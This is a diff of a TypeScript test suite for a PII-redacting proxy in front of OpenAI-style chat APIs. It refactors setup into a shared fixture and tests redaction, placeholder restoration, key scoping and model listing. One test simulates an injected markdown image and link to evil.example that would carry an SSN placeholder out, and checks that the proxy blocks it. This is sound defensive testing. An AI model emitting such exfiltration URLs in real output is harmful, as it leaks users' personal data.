@@ -1,25 +1,14 @@
 import OpenAI from "openai";
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { chatCompletion, chatCompletionStream, type FakeVendor, startFakeOpenAiVendor } from "../support/fake-openai-vendor.ts";
+import { beforeEach, describe, expect, it } from "vitest";
+import { chatCompletion, chatCompletionStream, startFakeOpenAiVendor } from "../support/fake-openai-vendor.ts";
 import { PII, PII_PROMPT, PII_VALUES, leakedIn } from "../support/pii-samples.ts";
-import { FAKE_VENDOR_KEY, startTestVeilgate, type TestVeilgate } from "../support/start-veilgate.ts";
+import { FAKE_VENDOR_KEY } from "../support/start-veilgate.ts";
+import { useVeilgate } from "../support/use-veilgate.ts";
 
-let vendor: FakeVendor;
-let veilgate: TestVeilgate;
-let client: OpenAI;
-
-beforeAll(async () => {
-  vendor = await startFakeOpenAiVendor();
-  veilgate = await startTestVeilgate({ fakeVendorUrl: vendor.url });
-  client = new OpenAI({ baseURL: `${veilgate.url}/v1`, apiKey: veilgate.clientKey, maxRetries: 0 });
-});
-afterAll(async () => {
-  await veilgate.close();
-  await vendor.close();
-});
+const fixture = useVeilgate();
 beforeEach(() => {
-  vendor.received.length = 0;
-  vendor.respondWith((request) => {
+  fixture.vendor.received.length = 0;
+  fixture.vendor.respondWith((request) => {
     const text = (request.body.messages as Array<{ content: string }>).at(-1)?.content ?? "";
     return request.body.stream
       ? { kind: "sse", writes: chatCompletionStream(text.match(/[\s\S]{1,2}/g) ?? []) }
@@ -29,22 +18,22 @@ beforeEach(() => {
 
 describe("POST /v1/chat/completions through the openai SDK", () => {
   it("hides every PII value from the vendor and gives the client its values back (JSON)", async () => {
-    const completion = await client.chat.completions.create({
+    const completion = await fixture.client.chat.completions.create({
       model: "gpt-test",
       messages: [
         { role: "system", content: `You help ${PII.email}.` },
         { role: "user", content: PII_PROMPT },
       ],
     });
-    expect(vendor.received).toHaveLength(1);
-    expect(leakedIn(vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
+    expect(fixture.vendor.received).toHaveLength(1);
+    expect(leakedIn(fixture.vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
     expect(completion.choices[0]!.message.content).toBe(PII_PROMPT);
     expect(completion.id).toBe("chatcmpl-fake123");
     expect(completion.usage).toEqual({ prompt_tokens: 11, completion_tokens: 7, total_tokens: 18 });
   });
 
   it("restores values in a stream split two characters per chunk", async () => {
-    const stream = await client.chat.completions.create({
+    const stream = await fixture.client.chat.completions.create({
       model: "gpt-test",
       stream: true,
       messages: [{ role: "user", content: PII_PROMPT }],
@@ -55,25 +44,25 @@ describe("POST /v1/chat/completions through the openai SDK", () => {
       text += chunk.choices[0]?.delta.content ?? "";
       finishReason = chunk.choices[0]?.finish_reason ?? finishReason;
     }
-    expect(leakedIn(vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
+    expect(leakedIn(fixture.vendor.received[0]!.rawBody, PII_VALUES)).toEqual([]);
     expect(text).toBe(PII_PROMPT);
     expect(finishReason).toBe("stop");
   });
 
   it("restores a placeholder split one character per chunk", async () => {
-    vendor.respondWith((request) => {
+    fixture.vendor.respondWith((request) => {
       const text = (request.body.messages as Array<{ content: string }>)[0]!.content;
       return { kind: "sse", writes: chatCompletionStream([...`Noted: ${text}!`]) };
     });
-    const stream = await client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: PII.ssn }] });
+    const stream = await fixture.client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: PII.ssn }] });
     let text = "";
     for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? "";
     expect(text).toBe(`Noted: ${PII.ssn}!`);
   });
 
   it("passes the vendor's usage chunk and stream_options through", async () => {
-    vendor.respondWith(() => ({ kind: "sse", writes: chatCompletionStream(["hi"], { includeUsage: true }) }));
-    const stream = await client.chat.completions.create({
+    fixture.vendor.respondWith(() => ({ kind: "sse", writes: chatCompletionStream(["hi"], { includeUsage: true }) }));
+    const stream = await fixture.client.chat.completions.create({
       model: "gpt-test",
       stream: true,
       stream_options: { include_usage: true },
@@ -81,17 +70,17 @@ describe("POST /v1/chat/completions through the openai SDK", () => {
     });
     const chunks = [];
     for await (const chunk of stream) chunks.push(chunk);
-    expect(vendor.received[0]!.body.stream_options).toEqual({ include_usage: true });
+    expect(fixture.vendor.received[0]!.body.stream_options).toEqual({ include_usage: true });
     expect(chunks.at(-1)?.usage).toEqual({ prompt_tokens: 5, completion_tokens: 9, total_tokens: 14 });
   });
 
   it("redacts tool calls, tool results and names, and restores tool-call arguments as valid JSON", async () => {
-    vendor.respondWith((request) => {
+    fixture.vendor.respondWith((request) => {
       const tool = (request.body.messages as Array<{ role: string; content: string }>).find((message) => message.role === "tool")!;
       const args = JSON.stringify({ ssn: JSON.parse(tool.content).ssn, note: `mail ${JSON.parse(tool.content).email}` });
       return { kind: "json", body: chatCompletion(null, { tool_calls: [{ id: "call_2", type: "function", function: { name: "lookup", arguments: args } }] }) };
     });
-    const completion = await client.chat.completions.create({
+    const completion = await fixture.client.chat.completions.create({
       model: "gpt-test",
       tools: [{ type: "function", function: { name: "lookup", parameters: { type: "object", properties: { ssn: { type: "string" } } } } }],
       messages: [
@@ -101,7 +90,7 @@ describe("POST /v1/chat/completions through the openai SDK", () => {
         { role: "tool", tool_call_id: "call_1", content: JSON.stringify({ ssn: PII.ssn, email: PII.email, iban: PII.iban }) },
       ],
     });
-    const received = vendor.received[0]!;
+    const received = fixture.vendor.received[0]!;
     expect(leakedIn(received.rawBody, PII_VALUES)).toEqual([]);
     expect(received.body.tools).toEqual([{ type: "function", function: { name: "lookup", parameters: { type: "object", properties: { ssn: { type: "string" } } } } }]);
     const call = completion.choices[0]!.message.tool_calls![0]!;
@@ -110,7 +99,7 @@ describe("POST /v1/chat/completions through the openai SDK", () => {
   });
 
   it("streams tool-call arguments with placeholders split across deltas", async () => {
-    vendor.respondWith((request) => {
+    fixture.vendor.respondWith((request) => {
       const args = JSON.stringify({ ssn: ((request.body.messages as Array<{ content: string }>)[0]!.content.match(/\[[^\]]+\]/) ?? [""])[0] });
       const frame = (delta: object, finish: string | null) =>
         `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model: "m", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
@@ -119,7 +108,7 @@ describe("POST /v1/chat/completions through the openai SDK", () => {
       writes.push(frame({}, "tool_calls"), "data: [DONE]\n\n");
       return { kind: "sse", writes };
     });
-    const stream = await client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
+    const stream = await fixture.client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
     let args = "";
     for await (const chunk of stream) args += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "";
     expect(JSON.parse(args)).toEqual({ ssn: PII.ssn });
@@ -131,9 +120,9 @@ describe("placeholders", () => {
 
   it("keep their placeholders across turns when the client resends the history", async () => {
     const first = `My SSN is ${PII.ssn}.`;
-    const reply = await client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: first }] });
+    const reply = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: first }] });
     const second = `Also my email is ${PII.email}, and again my SSN is ${PII.ssn.replaceAll("-", " ")}.`;
-    await client.chat.completions.create({
+    await fixture.client.chat.completions.create({
       model: "gpt-test",
       messages: [
         { role: "user", content: first },
@@ -141,7 +130,7 @@ describe("placeholders", () => {
         { role: "user", content: second },
       ],
     });
-    const [turnOne, turnTwo] = vendor.received.map((request) => request.body.messages as Array<{ content: string }>);
+    const [turnOne, turnTwo] = fixture.vendor.received.map((request) => request.body.messages as Array<{ content: string }>);
     const ssnPlaceholder = placeholdersIn(turnOne![0]!.content)[0]!;
     expect(ssnPlaceholder).toMatch(/^\[US_SSN_/);
     expect(turnTwo![0]!.content).toBe(turnOne![0]!.content);
@@ -150,11 +139,11 @@ describe("placeholders", () => {
   });
 
   it("give one value one placeholder whatever its separators, and reveal nothing about it", async () => {
-    await client.chat.completions.create({
+    await fixture.client.chat.completions.create({
       model: "gpt-test",
       messages: [{ role: "user", content: `SSN ${PII.ssn}, again ${PII.ssn.replaceAll("-", "")}, again ${PII.ssn.replaceAll("-", "\u2013")}, other SSN 536-22-1235` }],
     });
-    const placeholders = placeholdersIn((vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content);
+    const placeholders = placeholdersIn((fixture.vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content);
     expect(placeholders).toHaveLength(4);
     expect(new Set(placeholders.slice(0, 3)).size).toBe(1);
     expect(placeholders[3]).not.toBe(placeholders[0]);
@@ -162,30 +151,30 @@ describe("placeholders", () => {
   });
 
   it("are unlinkable between two callers", async () => {
-    const other = new OpenAI({ baseURL: `${veilgate.url}/v1`, apiKey: veilgate.createKey({ name: "other" }).secret, maxRetries: 0 });
-    await client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
+    const other = fixture.clientWithNewKey();
+    await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
     await other.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
-    const [mine, theirs] = vendor.received.map((request) => placeholdersIn((request.body.messages as Array<{ content: string }>)[0]!.content)[0]);
+    const [mine, theirs] = fixture.vendor.received.map((request) => placeholdersIn((request.body.messages as Array<{ content: string }>)[0]!.content)[0]);
     expect(mine).toBeDefined();
     expect(theirs).toBeDefined();
     expect(mine).not.toBe(theirs);
   });
 
   it("restore only what this exchange issued: typed look-alikes and other callers' placeholders stay text", async () => {
-    const other = new OpenAI({ baseURL: `${veilgate.url}/v1`, apiKey: veilgate.createKey({ name: "other" }).secret, maxRetries: 0 });
+    const other = fixture.clientWithNewKey();
     await other.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
-    const theirs = placeholdersIn((vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content)[0]!;
+    const theirs = placeholdersIn((fixture.vendor.received[0]!.body.messages as Array<{ content: string }>)[0]!.content)[0]!;
     const typed = `I typed [US_SSN_ABC123] and [EMAIL_ZZZZZZ] and ${theirs} myself.`;
-    const completion = await client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: typed }] });
+    const completion = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: typed }] });
     expect(completion.choices[0]!.message.content).toBe(typed);
   });
 
   it("are never restored inside a URL, so an injected image cannot carry values out", async () => {
-    vendor.respondWith((request) => {
+    fixture.vendor.respondWith((request) => {
       const placeholder = placeholdersIn((request.body.messages as Array<{ content: string }>)[0]!.content)[0]!;
       return { kind: "json", body: chatCompletion(`Your SSN is ${placeholder}. ![logo](https://evil.example/p.png?ssn=${placeholder}) [link](https://evil.example/${placeholder})`) };
     });
-    const completion = await client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
+    const completion = await fixture.client.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: `SSN ${PII.ssn}` }] });
     const content = completion.choices[0]!.message.content!;
     expect(content.startsWith(`Your SSN is ${PII.ssn}. `)).toBe(true);
     expect(content.split(PII.ssn)).toHaveLength(2);
@@ -195,16 +184,16 @@ describe("placeholders", () => {
 
 describe("vendor requests", () => {
   it("carry the vendor's key, never the caller's, and the vendor's own model name", async () => {
-    await client.chat.completions.create({ model: "fakeai/shared-model", messages: [{ role: "user", content: "hi" }] });
-    const received = vendor.received[0]!;
+    await fixture.client.chat.completions.create({ model: "fakeai/shared-model", messages: [{ role: "user", content: "hi" }] });
+    const received = fixture.vendor.received[0]!;
     expect(received.path).toBe("/v1/chat/completions");
     expect(received.headers.authorization).toBe(`Bearer ${FAKE_VENDOR_KEY}`);
-    expect(JSON.stringify(received.headers)).not.toContain(veilgate.clientKey);
+    expect(JSON.stringify(received.headers)).not.toContain(fixture.veilgate.clientKey);
     expect(received.body.model).toBe("shared-model");
   });
 
   it("pass every field Veilgate does not redact through untouched", async () => {
-    await client.chat.completions.create({
+    await fixture.client.chat.completions.create({
       model: "gpt-test",
       temperature: 0.25,
       max_completion_tokens: 77,
@@ -213,21 +202,21 @@ describe("vendor requests", () => {
       metadata: { ticket: "T-1" },
       messages: [{ role: "user", content: "hi" }],
     });
-    expect(vendor.received[0]!.body).toMatchObject({ temperature: 0.25, max_completion_tokens: 77, seed: 7, response_format: { type: "json_object" }, metadata: { ticket: "T-1" } });
+    expect(fixture.vendor.received[0]!.body).toMatchObject({ temperature: 0.25, max_completion_tokens: 77, seed: 7, response_format: { type: "json_object" }, metadata: { ticket: "T-1" } });
   });
 });
 
 describe("GET /v1/models", () => {
   it("lists what the key may use, in OpenAI's list shape", async () => {
     const ids = [];
-    for await (const model of client.models.list()) ids.push(model.id);
+    for await (const model of fixture.client.models.list()) ids.push(model.id);
     expect(ids).toEqual(expect.arrayContaining(["fakeai/gpt-test", "gpt-test", "fakeai/shared-model", "otherai/shared-model", "otherai/other-model"]));
     expect(ids).not.toContain("shared-model");
     expect(ids.some((id) => id.includes("suspended") || id.includes("expired"))).toBe(false);
   });
 
   it("lists only the vendors a scoped key may reach", async () => {
-    const scoped = new OpenAI({ baseURL: `${veilgate.url}/v1`, apiKey: veilgate.createKey({ vendors: ["otherai"] }).secret, maxRetries: 0 });
+    const scoped = fixture.clientWithNewKey({ vendors: ["otherai"] });
     const ids = [];
     for await (const model of scoped.models.list()) ids.push(model.id);
     expect(ids.sort()).toEqual(["other-model", "otherai/other-model", "otherai/shared-model", "shared-model"]);
